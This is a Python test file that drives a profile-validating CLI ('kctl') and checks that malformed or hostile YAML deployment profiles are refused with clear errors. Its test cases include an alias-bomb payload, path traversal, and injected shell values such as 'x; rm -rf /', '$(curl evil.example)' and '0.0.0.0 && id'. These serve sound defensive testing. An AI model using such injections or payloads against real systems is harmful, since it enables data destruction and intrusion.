"""Bad profiles, driven through the real CLI in a subprocess: each kind is refused with
exit 2 and a message naming the file and the field (or the line), by ``kctl validate`` and
by ``kctl deploy`` before anything touches the host (the state directory is not even
created). The alias bomb is refused in milliseconds and bounded memory."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import pytest

from kctl.errors import ProfileError
from kctl.profile import load_profile
from kctl.profile.reader import MAX_BYTES

REPO = Path(__file__).resolve().parents[2]
OK = "server:\n  model_path: /models/m\n  port: 39999\nruntime:\n  kind: local\n"


def bomb() -> str:
    """The 342-byte "billion laughs": 9 levels of 9 aliases, 9**9 strings expanded."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for prev, name in zip("abcdefgh", "bcdefghi"):
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    return "\n".join(lines) + "\n"


HUGE = OK + "# padding\n" * (MAX_BYTES // 10 + 1)


def server(extra: str) -> str:
    return OK.replace("  port: 39999\n", f"  port: 39999\n{extra}")


# (kind, file content, what the message must contain: the file, then the field or line)
CASES: list[tuple[str, str | bytes, str]] = [
    ("yaml syntax", "server:\n  port: 1\n   host: x\n", "line 3, column 8: invalid YAML"),
    ("duplicate key", OK + "runtime:\n  kind: docker\n", "line 6, column 1: invalid YAML: found duplicate key 'runtime'"),
    ("alias bomb", bomb(), "e: refused (line 5, column 4): aliases expand this value to more than 10000 values"),
    ("recursive alias", OK + "x-loop: &loop [*loop]\n", "x-loop[0]: refused (line 6, column 9): an alias refers to the value that contains it"),
    ("deep nesting", OK + "x-deep: " + "[" * 40 + "]" * 40 + "\n", "x-deep" + "[0]" * 32 + ": refused (line 6, column 41): nested deeper than 32 levels"),
    ("huge file", HUGE, f"the file is {len(HUGE)} bytes, over the {MAX_BYTES} byte limit for a profile"),
    ("not UTF-8", OK.encode() + b"description: caf\xe9\n", "line 6, column 17: not UTF-8 text (byte 0xe9)"),
    ("control character", OK + "description: a\x07b\n", "line 6, column 15: invalid YAML: character '\\x07' is not allowed"),
    ("unknown key", server("  prot: 1\n"), "server.prot: unknown key; did you mean 'port'?"),
    ("wrong type", OK.replace("port: 39999", "port: '39999'"), "server.port: must be a TCP port between 1 and 65535 (got '39999')"),
    ("out of range", server("  mem_fraction_static: 1.5\n"), "server.mem_fraction_static: must be a fraction between 0 and 1"),
    ("not a number", OK + "health:\n  deadline_s: .nan\n", "health.deadline_s: must be a positive number"),
    ("env value not a string", server("  env: {WORKERS: 4}\n"), "server.env.WORKERS: must be a string"),
    ("shell syntax in extra_args", server("  extra_args: ['--chat-template', 'x; rm -rf /']\n"), "server.extra_args[1]: contains shell syntax (';')"),
    ("command substitution in env", server("  env: {HOOK: '$(curl evil.example)'}\n"), "server.env.HOOK: contains shell syntax ('$(')"),
    ("line break in image.base", "image:\n  base: \"lmsysorg/sglang:v0.5.10\\nRUN rm -rf /\"\n" + OK, "image.base: must be an image reference"),
    ("NUL in model_path", OK.replace("/models/m", '"/models/m\\0"'), "server.model_path: contains a control character"),
    ("shell syntax in host", OK.replace("port: 39999", "port: 39999\n  host: '0.0.0.0 && id'"), "server.host: must be an address to bind"),
    ("managed flag", server("  extra_args: ['--port=1']\n"), "server.extra_args[0]: SGLang 0.5.10: --port sets port, which kctl manages"),
    ("abbreviated managed flag", server("  extra_args: ['--mem-frac', '0.5']\n"), "server.extra_args[0]: SGLang 0.5.10: --mem-frac (an abbreviation of --mem-fraction-static)"),
    ("flag and value in one item", server("  extra_args: ['--max-running-requests 48']\n"), "server.extra_args[0]: holds a flag and its value in one item"),
    ("kernel source outside the repo", "image:\n  kernel_source: ../../etc\n" + OK, "image.kernel_source: must stay inside the repository"),
    ("absolute kernel source", "image:\n  kernel_source: /etc\n" + OK, "image.kernel_source: must stay inside the repository"),
    ("relative volume", OK + "  volumes: [{host: models, container: /models}]\n", "runtime.volumes[0].host: must be an absolute host path"),
    ("missing model path", "runtime: {kind: local}\n", "server.model_path: is required"),
    ("top level not a mapping", "- server\n", "(top level): must be a mapping"),
    ("extends itself", "extends: bad.yaml\n", "extends: cycle"),
]  # fmt: skip


def kctl(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    code = "import sys; from kctl.cli import main; sys.exit(main())"
    return subprocess.run(
        [sys.executable, "-c", code, *args], cwd=cwd, env=env, capture_output=True, text=True
    )


def write(tmp_path: Path, content: str | bytes) -> Path:
    path = tmp_path / "bad.yaml"
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return path


def test_a_dozen_kinds_at_least() -> None:
    assert len({kind for kind, _, _ in CASES}) == len(CASES) >= 12


@pytest.mark.parametrize(("content", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_validate_refuses_with_exit_2_naming_the_field(
    tmp_path: Path, content: str | bytes, expected: str
) -> None:
    write(tmp_path, content)
    run = kctl("validate", "bad.yaml", cwd=tmp_path)
    assert run.returncode == 2, run.stdout + run.stderr
    assert f"bad.yaml: {expected}" in run.stdout, run.stdout
    assert "Traceback" not in run.stdout + run.stderr


#: one kind per layer (reading, YAML limits, fields, shell rules, flags, paths, cross-field)
THROUGH_DEPLOY = ("yaml syntax", "alias bomb", "huge file", "not UTF-8", "unknown key", "wrong type", "shell syntax in extra_args", "managed flag", "kernel source outside the repo", "missing model path")  # fmt: skip


@pytest.mark.parametrize(
    ("content", "expected"),
    [c[1:] for c in CASES if c[0] in THROUGH_DEPLOY],
    ids=[c[0] for c in CASES if c[0] in THROUGH_DEPLOY],
)
def test_deploy_refuses_before_touching_anything(
    tmp_path: Path, content: str | bytes, expected: str
) -> None:
    write(tmp_path, content)
    state = tmp_path / "state"
    run = kctl(
        "--json", "--state-dir", str(state), "deploy", "bad.yaml", "--simulate", cwd=tmp_path
    )
    assert run.returncode == 2, run.stdout + run.stderr
    envelope = json.loads(run.stdout)
    assert envelope["error"]["type"] == "ProfileError"
    assert expected in envelope["error"]["message"]
    assert not state.exists()  # no store, no lock, no log: nothing was touched


def test_the_alias_bomb_costs_milliseconds_and_little_memory(tmp_path: Path) -> None:
    path = write(tmp_path, bomb())
    assert path.stat().st_size == 342
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(ProfileError):
        load_profile(path)
    elapsed = time.perf_counter() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 1.0 and peak < 20 * 2**20, (elapsed, peak)
    # the whole process, measured by a parent that runs nothing else
    driver = (
        "import resource, subprocess, sys, time; t = time.perf_counter(); "
        "rc = subprocess.run(sys.argv[1:], capture_output=True).returncode; "
        "print(rc, time.perf_counter() - t, "
        "resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
    )
    cli = [sys.executable, "-c", "import sys; from kctl.cli import main; sys.exit(main())"]
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    out = subprocess.run(
        [sys.executable, "-c", driver, *cli, "validate", str(path)],
        capture_output=True,
        text=True,
        env=env,
        check=True,
    ).stdout.split()
    rc, maxrss_kb = int(out[0]), int(out[2])
    assert rc == 2 and maxrss_kb < 200 * 1024, out
